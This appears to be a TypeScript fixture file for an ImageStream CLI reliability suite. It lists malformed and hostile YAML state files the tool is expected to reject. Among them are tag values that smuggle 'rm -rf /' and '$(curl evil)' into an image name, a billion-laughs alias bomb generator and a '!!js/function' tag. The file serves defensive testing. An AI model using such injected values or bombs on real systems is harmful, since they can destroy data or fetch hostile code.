/**
 * The bad-input corpus of the reliability suite (test/reliability/bad-input.test.ts) and its helpers: hostile and
 * malformed state files, and an in-process CLI runner that captures stdout/stderr. Every image reference points at
 * 127.0.0.1:9 (nothing listens there), so a case that slipped through validation fails fast on loopback instead of
 * reaching out.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { runCli } from '../../src/cli/shared/program.js'
import { registrars } from '../../src/cli/registrars.js'

export const D1 = `sha256:${'a1'.repeat(32)}`
export const D2 = `sha256:${'b2'.repeat(32)}`
/** Temp repositories made by `repo()`, for the caller's afterAll to remove. */
export const roots: string[] = []

export async function cli(argv: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = ''
  let err = ''
  const write = { out: process.stdout.write.bind(process.stdout), err: process.stderr.write.bind(process.stderr) }
  process.stdout.write = ((s: string | Uint8Array) => ((out += String(s)), true)) as typeof process.stdout.write
  process.stderr.write = ((s: string | Uint8Array) => ((err += String(s)), true)) as typeof process.stderr.write
  try {
    return { code: await runCli(argv, registrars), out, err }
  } finally {
    process.stdout.write = write.out
    process.stderr.write = write.err
  }
}

export function repo(files: Record<string, string | Buffer>): string {
  const root = mkdtempSync(join(tmpdir(), 'imagestream-badinput-'))
  roots.push(root)
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(root, path, '..'), { recursive: true })
    writeFileSync(join(root, path), text)
  }
  return root
}

export const head = 'apiVersion: image.openshift.io/v1\nkind: ImageStream\nmetadata:\n  name: web\n'
/** A valid stream with tags `1` (imported, D1) — the base most state cases change one thing in. */
export const tag = (name: string, from: string, extra = ''): string =>
  `  - name: "${name}"\n    from:\n      kind: DockerImage\n      name: ${from}\n${extra}`
export const withTags = (...tags: string[]): string => `${head}spec:\n  tags:\n${tags.join('')}`
export const bomb = (levels: number): string => {
  let out = '  l0: &l0 [x, x, x, x, x, x, x, x, x, x]\n'
  for (let i = 1; i < levels; i++)
    out += `  l${i}: &l${i} [${Array(10)
      .fill(`*l${i - 1}`)
      .join(', ')}]\n`
  return out
}

// ── State files: `imagestream sync --all` must exit 2, name the file (and line where there is one), write nothing.
export const STATE: Array<[string, string | Buffer, RegExp?]> = [
  ['YAML syntax error (unclosed flow mapping)', `${head}spec: {tags: [\n`, /web\.yaml:\d+:\d+/],
  ['tab used as indentation', `${head}spec:\n\ttags: []\n`, /web\.yaml:\d+:\d+/],
  ['duplicate key', `${head}  name: other\nspec: {}\n`, /web\.yaml:5:\d+/],
  // Several ImageStream documents in one file are read (oc apply takes them all); each one is still checked.
  ['two YAML documents, both invalid', `${head}spec: {bogus: 1}\n---\n${head}spec: {bogus: 1}\n`, /web\.yaml:\d+:\d+/],
  ['empty file', '', /web\.yaml:1:1/],
  ['only a comment', '# nothing here\n', /web\.yaml:1:1/],
  // A document of another kind is skipped (a kustomization.yaml next to the streams); a wrong apiVersion is not.
  [
    'wrong apiVersion',
    'apiVersion: apps/v1\nkind: ImageStream\nmetadata:\n  name: web\nspec: {}\n',
    /web\.yaml:\d+:\d+/
  ],
  [
    'wrong apiVersion',
    'apiVersion: image.openshift.io/v2\nkind: ImageStream\nmetadata:\n  name: web\nspec: {}\n',
    /web\.yaml:1:\d+/
  ],
  ['a list, not a mapping', '- apiVersion: image.openshift.io/v1\n', /web\.yaml:\d+:\d+/],
  ['a bare string', 'hello\n', /web\.yaml:\d+:\d+/],
  ['unknown field under spec', `${head}spec:\n  tagz: []\n`, /web\.yaml:6:\d+/],
  ['unknown field in a tag', withTags(tag('1', '127.0.0.1:9/acme/web:1', '    fromm: x\n')), /web\.yaml:\d+:\d+/],
  [
    'duplicate tag names',
    withTags(tag('1', '127.0.0.1:9/acme/web:1'), tag('1', '127.0.0.1:9/acme/web:2')),
    /web\.yaml:\d+:\d+/
  ],
  ['generation is a string', `${head}  generation: three\nspec: {}\n`, /web\.yaml:5:\d+/],
  ['tags is a mapping', `${head}spec:\n  tags: {a: 1}\n`, /web\.yaml:6:\d+/],
  ['uppercase stream name', head.replace('name: web', 'name: Web') + 'spec: {}\n', /web\.yaml:4:\d+/],
  [
    'missing metadata.name',
    'apiVersion: image.openshift.io/v1\nkind: ImageStream\nmetadata: {}\nspec: {}\n',
    /web\.yaml:\d+/
  ],
  [
    'from.kind unknown',
    withTags(tag('1', '127.0.0.1:9/acme/web:1').replace('DockerImage', 'Sideways')),
    /web\.yaml:\d+:\d+/
  ],
  [
    'importMode unknown',
    withTags(tag('1', '127.0.0.1:9/acme/web:1', '    importPolicy:\n      importMode: Sometimes\n')),
    /web\.yaml:\d+:\d+/
  ],
  [
    'referencePolicy type unknown',
    withTags(tag('1', '127.0.0.1:9/acme/web:1', '    referencePolicy:\n      type: Remote\n')),
    /web\.yaml:\d+:\d+/
  ],
  [
    'status created is not a time',
    `${withTags(tag('1', '127.0.0.1:9/acme/web:1'))}status:\n  dockerImageRepository: ""\n  tags:\n  - tag: "1"\n    items:\n    - created: yesterday\n      dockerImageReference: 127.0.0.1:9/acme/web@${D1}\n      image: ${D1}\n      generation: 1\n`,
    /web\.yaml:\d+:\d+/
  ],
  [
    'holds annotation is not JSON',
    `${head}  annotations:\n    imagestream-action.dev/holds: '{not json'\nspec: {}\n`,
    /web\.yaml: .*imagestream-action\.dev\/holds/
  ],
  ['alias bomb (billion laughs)', `${head}  labels:\n    x: y\nspec: {}\nbomb:\n${bomb(9)}`, /web\.yaml/],
  ['unknown YAML tag', `${head}spec: !!js/function "function () {}"\n`, /web\.yaml:\d+:\d+/],
  ['invalid UTF-8', Buffer.concat([Buffer.from(head), Buffer.from([0xc3, 0x28, 0x0a])]), /web\.yaml/],
  ['gigantic file (over the size limit)', `${head}spec: {}\n${'#'.repeat(100)}\n`.repeat(60_000), /web\.yaml/],
  ['deep nesting', `${head}spec: {}\nx: ${'['.repeat(3000)}${']'.repeat(3000)}\n`, /web\.yaml/]
]

/** Accepted today, though OpenShift's validation refuses them (or silently ignored): see test/reliability/pending/. */
export const STATE_PENDING: Array<[string, string | Buffer, RegExp?]> = [
  ['negative generation', `${head}  generation: -4\nspec: {}\n`, /web\.yaml:5:\d+/],
  ['tag name with a slash', withTags(tag('a/b', '127.0.0.1:9/acme/web:1')), /web\.yaml:\d+:\d+/],
  [
    'status item with a malformed digest',
    `${withTags(tag('1', '127.0.0.1:9/acme/web:1'))}status:\n  dockerImageRepository: ""\n  tags:\n  - tag: "1"\n    items:\n    - created: "2024-01-01T00:00:00Z"\n      dockerImageReference: 127.0.0.1:9/acme/web@sha256:zz\n      image: sha256:zz\n      generation: 1\n`,
    /web\.yaml:\d+:\d+/
  ],
  ['from.name: uppercase repository', withTags(tag('1', '127.0.0.1:9/ACME/Web:1')), /web\.yaml:\d+:\d+/],
  ['from.name: malformed digest', withTags(tag('1', '127.0.0.1:9/acme/web@sha256:xyz')), /web\.yaml:\d+:\d+/],
  ['from.name: overlong', withTags(tag('1', `127.0.0.1:9/acme/${'a'.repeat(300)}:1`)), /web\.yaml:\d+:\d+/],
  ['from.name: injected newline', withTags(tag('1', '"127.0.0.1:9/acme/web:1\\nrm -rf /"')), /web\.yaml:\d+:\d+/],
  ['from.name: shell metacharacters', withTags(tag('1', "'127.0.0.1:9/acme/web:1;$(curl evil)'")), /web\.yaml:\d+:\d+/],
  ['from.name: empty', withTags(tag('1', '""')), /web\.yaml:\d+:\d+/],
  [
    'circular ImageStreamTag aliases',
    withTags(
      tag('a', 'web:b').replace('DockerImage', 'ImageStreamTag'),
      tag('b', 'web:a').replace('DockerImage', 'ImageStreamTag')
    ),
    /web\.yaml/
  ],
  ['self-referencing alias', withTags(tag('a', 'web:a').replace('DockerImage', 'ImageStreamTag')), /web\.yaml/]
]
